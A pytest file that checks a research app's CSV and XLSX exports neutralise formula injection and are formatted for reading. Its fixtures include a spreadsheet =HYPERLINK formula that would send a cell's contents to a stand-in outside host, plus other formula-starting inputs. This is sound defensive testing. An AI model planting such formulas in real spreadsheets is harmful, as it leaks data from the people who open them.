"""CSV and XLSX exports: safe to open (no formula runs, the exact text recoverable),
and XLSX formatted for reading (header, frozen panes, filters, widths, wrapping)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from backend.exports.cells import FORMULA_START, csv_exact, csv_safe
from tests import study
from tests.conftest import signed_in

HOSTILE_MEMO = '=HYPERLINK("http://example.org/?"&A1,"click")'
HOSTILE_CODE = "@SUM(1+1)"
RICH_LOOKING = "<r><t>not markup</t></r>"


@pytest.fixture
async def hostile(corpus_settings):
    """A project whose text starts like formulas: a quote, a memo, a code, a CMOC."""
    async with signed_in(corpus_settings) as api:
        policy = await study.find_document(api, "Commissioning-policy")
        text = await study.text_of(api, policy)
        code = await study.code(api, HOSTILE_CODE, "context")
        at = text.index("-")
        dash = await study.annotate(api, policy, text[at : at + 30], [code], memo=HOSTILE_MEMO)
        rich = await study.annotate(api, policy, text[40:90], [code], memo=RICH_LOOKING)
        r = await api.post(
            f"{api.base}/cmocs",
            json={
                "title": "+1 tab\tand CR",
                "evidence": [
                    {"annotation_id": dash["id"], "part": "context", "stance": "supports"}
                ],
            },
        )
        assert r.status_code == 201, r.text
        yield api, dash, rich


async def _get(api, **params) -> bytes:
    r = await api.get(f"{api.base}/exports", params=params)
    assert r.status_code == 200, r.text
    return r.content


def test_the_csv_rule_is_reversible_and_leaves_plain_text_alone():
    for text in ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "''@x", "'tis", "plain", ""]:
        assert csv_exact(csv_safe(text)) == text
        assert not csv_safe(text).startswith(FORMULA_START)
    assert csv_safe("'tis") == "'tis" and csv_safe("plain") == "plain"


async def test_csv_cells_that_would_run_start_with_an_apostrophe(hostile):
    api, dash, _ = hostile
    table = (await _get(api, format="csv", table="evidence")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(table)))
    row = next(r for r in rows if r["annotation_id"] == str(dash["id"]))
    assert row["quote"] == "'" + dash["exact"] and csv_exact(row["quote"]) == dash["exact"]
    assert row["memo"] == "'" + HOSTILE_MEMO and row["codes"] == "'" + HOSTILE_CODE
    assert row["cmoc_title"] == "'+1 tab\tand CR"
    for r in rows:
        for value in r.values():
            assert not value.startswith(FORMULA_START)
    archive = zipfile.ZipFile(io.BytesIO(await _get(api, format="csv")))
    codebook = archive.read("codebook.csv").decode("utf-8-sig")
    assert f"'{HOSTILE_CODE}" in codebook


async def test_xlsx_keeps_the_exact_text_marked_as_text(hostile):
    api, dash, rich = hostile
    book = load_workbook(io.BytesIO(await _get(api, format="xlsx")))
    sheet = book["evidence"]
    header = [c.value for c in sheet[1]]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    dashed = dict(zip(header, rows[dash["id"]], strict=True))
    assert dashed["quote"].value == dash["exact"] and dashed["quote"].quotePrefix
    assert dashed["memo"].value == HOSTILE_MEMO and dashed["memo"].quotePrefix
    assert dashed["codes"].value == HOSTILE_CODE and dashed["codes"].quotePrefix
    assert not dashed["citation"].quotePrefix
    rich_row = dict(zip(header, rows[rich["id"]], strict=True))
    assert rich_row["memo"].value == RICH_LOOKING  # text, not XLSX markup
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"  # no formula anywhere


async def test_xlsx_sheets_are_formatted_for_reading(hostile):
    api, _, _ = hostile
    book = load_workbook(io.BytesIO(await _get(api, format="xlsx")))
    for sheet in book.worksheets:
        top = sheet[1]
        assert sheet.freeze_panes == "A2"
        assert all(c.font.bold and c.fill.fgColor.rgb.endswith("D9E1F2") for c in top)
        assert sheet.auto_filter.ref == f"A1:{top[-1].column_letter}{max(sheet.max_row, 1)}"
    evidence = book["evidence"]
    header = [c.value for c in evidence[1]]
    quote = evidence.cell(row=2, column=header.index("quote") + 1)
    assert evidence.column_dimensions[quote.column_letter].width == pytest.approx(60, abs=1)
    assert quote.alignment.wrap_text
    for name in ("page", "section", "pagination", "turn", "speaker_role", "line", "timestamp"):
        assert name in header
    assert "passage_id" not in header
